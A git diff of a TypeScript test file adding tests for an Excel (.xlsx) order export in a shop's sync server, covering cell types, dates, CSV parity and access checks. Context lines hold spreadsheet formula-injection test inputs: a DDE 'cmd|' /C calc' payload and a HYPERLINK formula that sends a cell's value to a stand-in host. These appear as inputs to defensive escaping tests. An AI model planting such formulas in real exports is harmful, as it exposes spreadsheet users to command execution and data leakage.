@@ -12,7 +12,9 @@ import sharp from 'sharp';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { PHOTO_AREA_MM } from '../../src/domain/photos';
 import { windowed } from '../../sync-server/fulfilment/orders';
-import { HttpClient, pushNew, signInAdmin, signUp, startTestServer, uploadPhoto, type TestServer } from '../helpers/server';
+import readXlsxFile from 'read-excel-file/node';
+import { CSV_COLUMNS } from '../../sync-server/fulfilment/export-csv';
+import { HttpClient, pullAll, pushChange, pushNew, signInAdmin, signUp, startTestServer, uploadPhoto, type TestServer } from '../helpers/server';
 import { customDoc, givePhotos, transactionDoc } from './fixtures';
 
 const MM = 72 / 25.4;
@@ -243,6 +245,44 @@ describe('export of text a customer typed', () => {
     const row = (id: string) => text.split('\n').find((l) => l.startsWith(id))!;
     expect(row(sly.id)).toContain(`,"'=HYPERLINK(""https://contoh.id/?d=""&E2,""Klik"")",+6281234567890,"'@SUM(A1:A9) Jl. Melati, `);
     expect(row(sly2.id)).toContain(`,'-2+3+cmd|' /C calc'!A0,081234567890,"'+Jl. Kenanga 3, `);
+  });
+});
+
+describe('export as an Excel workbook', () => {
+  const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
+
+  it('when the admin exports today as .xlsx, then phone, code and a long numeric resi stay text, Jumlah and Total are numbers, Tanggal is a date, a formula-like name is kept as typed', async () => {
+    const shipped = transactionDoc(sariId, { userName: '=HYPERLINK("https://contoh.id","Klik")', phone: '081298760000' });
+    expect((await pushNew(sari, 'transactions', [shipped])).body).toMatchObject({ conflicts: [], refused: [] });
+    const master = (await pullAll(admin, 'transactions', 500)).docs.find((d) => d.id === shipped.id);
+    // A 16-digit resi: as a CSV cell a spreadsheet shows it as 1.23457E+15 and drops its leading 0.
+    expect((await pushChange(admin, 'transactions', master, { ...master, buyStatus: 2, resi: '0123456789012345' })).body.refused).toEqual([]);
+
+    const res = await download(admin, `/api/orders.xlsx?from=${shopToday()}&to=${shopToday()}`);
+    expect(res.status).toBe(200);
+    expect(res.type).toBe(XLSX);
+    const [{ data: rows }] = (await readXlsxFile(res.bytes)) as unknown as [{ data: unknown[][] }];
+    expect(rows[0]).toEqual([...CSV_COLUMNS]);
+    const row = rows.find((r) => r[0] === shipped.id)!;
+    expect(row[2]).toBe('=HYPERLINK("https://contoh.id","Klik")');
+    expect(row[3]).toBe('081298760000');
+    expect(row[7]).toBe('0123456789012345');
+    expect(row[8]).toBe('Dikirim');
+    expect(typeof row[10]).toBe('number');
+    expect(row[12]).toBe(master.price);
+    // The shop's day (WIB) as the date: the cell holds the wall-clock time in Jakarta.
+    expect(row[1]).toBeInstanceOf(Date);
+    expect((row[1] as Date).toISOString().slice(0, 10)).toBe(shopToday());
+    // Everything the CSV of the same day lists, in the same order.
+    const csvIds = (await download(admin, `/api/orders.csv?from=${shopToday()}&to=${shopToday()}`)).bytes.toString('utf8').trim().split('\n').slice(1).map((l) => l.split(',')[0]);
+    expect(rows.slice(1).map((r) => r[0])).toEqual(csvIds);
+  });
+
+  it('when the dates are not valid, then 400 with the same message as the CSV; a customer gets 403', async () => {
+    const res = await admin.get('/api/orders.xlsx?from=2026-02-30');
+    expect(res.status).toBe(400);
+    expect(res.body).toMatchObject({ error: 'export_bad_dates' });
+    expect((await sari.get('/api/orders.xlsx')).status).toBe(403);
   });
 });
 
